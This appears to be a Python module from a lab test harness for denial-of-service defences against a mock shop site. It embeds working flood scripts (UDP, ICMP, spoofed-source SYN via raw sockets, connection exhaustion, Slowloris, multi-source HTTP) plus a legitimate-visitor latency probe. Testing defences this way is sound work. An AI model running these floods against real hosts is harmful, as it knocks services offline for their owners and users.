"""Bounded floods from places on the lab's internet, and the steady visitor who must be served meanwhile.

Programs take (address, seconds, sources) and print how much they sent.
"""

from __future__ import annotations

_HEAD = """import os, random, socket, ssl, struct, sys, threading, time
address, seconds = sys.argv[1], float(sys.argv[2])
end = time.monotonic() + seconds
sources = sys.argv[3].split(",") if len(sys.argv) > 3 else [""]
sent = 0
"""
_ONES = """def ones(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
"""
UDP = (
    _HEAD
    + """s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while time.monotonic() < end:
    for _ in range(50):
        s.sendto(b"x" * 400, (address, random.randrange(1024, 65535)))
        sent += 1
    time.sleep(0.004)
print(sent)
"""
)
ICMP = (
    _HEAD
    + _ONES
    + """s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"x" * 56
ping = body[:2] + struct.pack("!H", ones(body)) + body[4:]
while time.monotonic() < end:
    for _ in range(50):
        s.sendto(ping, (address, 0))
        sent += 1
    time.sleep(0.004)
print(sent)
"""
)
SYN = (
    _HEAD
    + _ONES
    + """s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
to = socket.inet_aton(address)
while time.monotonic() < end:
    for _ in range(20):
        source = socket.inet_aton(random.choice(sources))
        tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), 80, random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
        check = ones(source + to + struct.pack("!BBH", 0, 6, 20) + tcp)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0, source, to)
        s.sendto(head + tcp[:16] + struct.pack("!H", check) + tcp[18:], (address, 0))
        sent += 1
    time.sleep(0.004)
print(sent)
"""
)
CONNECTIONS = (  # opens as many as it gets, and keeps them
    _HEAD
    + """kept = []
while time.monotonic() < end:
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.bind((random.choice(sources), 0))
        s.connect((address, 80))
        kept.append(s)
    except OSError:
        s.close()
    sent += 1
    time.sleep(0.001)
print(sent)
"""
)
SLOWLORIS = (  # request heads that never end
    _HEAD
    + """kept = []
while time.monotonic() < end:
    if len(kept) < 400:
        s = socket.socket()
        s.settimeout(0.5)
        try:
            s.bind((random.choice(sources), 0))
            s.connect((address, 80))
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: shop.test\\r\\nX-a: ")
            kept.append(s)
        except OSError:
            s.close()
    for s in random.sample(kept, min(len(kept), 5)):
        try:
            s.sendall(b"b")
            sent += 1
        except OSError:
            kept.remove(s)
            s.close()
    time.sleep(0.005)
print(sent)
"""
)
HTTP = (  # whole requests from every source, as fast as they are answered; prints the seconds until the first that is not served, too
    _HEAD
    + """began, refused = time.monotonic(), []
count = [0]
def visit(source):
    while time.monotonic() < end:
        try:
            with socket.create_connection((address, 80), 1, (source, 0)) as s:
                for _ in range(100):
                    s.sendall(b"GET /?q=flood HTTP/1.1\\r\\nHost: shop.test\\r\\n\\r\\n")
                    answer = s.recv(65536)
                    count[0] += 1
                    if b" 200 " not in answer[:20] or b"hx_challenge" in answer:
                        refused.append(time.monotonic() - began)
                    if not answer or time.monotonic() > end:
                        break
        except OSError:
            refused.append(time.monotonic() - began)
            time.sleep(0.01)
threads = [threading.Thread(target=visit, args=(source,)) for source in sources]
[t.start() for t in threads]
[t.join() for t in threads]
print(count[0], round(min(refused, default=-1), 2))
"""
)
FLOODS = {"syn": SYN, "spoofed": SYN, "udp": UDP, "icmp": ICMP, "connections": CONNECTIONS, "slowloris": SLOWLORIS, "http": HTTP}
SOURCES = {"spoofed": 64, "http": 8}  # addresses they come from; one for the rest
VISITOR = """import http.client, json, sys, time
address, seconds = sys.argv[1], float(sys.argv[2])
end, times, asked = time.monotonic() + seconds, [], 0
while time.monotonic() < end:
    began = time.monotonic()
    asked += 1
    try:
        connection = http.client.HTTPConnection(address, timeout=2)
        connection.request("GET", "/?q=cat", headers={"Host": "shop.test"})
        answer = connection.getresponse()
        if answer.status == 200 and b'"name"' in answer.read():
            times.append(time.monotonic() - began)
        connection.close()
    except OSError:
        pass
    except http.client.HTTPException:
        pass
    time.sleep(max(0.0, 0.05 - (time.monotonic() - began)))
times.sort()
print(json.dumps({"asked": asked, "served": len(times), "p50_ms": round(times[len(times) // 2] * 1000, 1) if times else None}))
"""
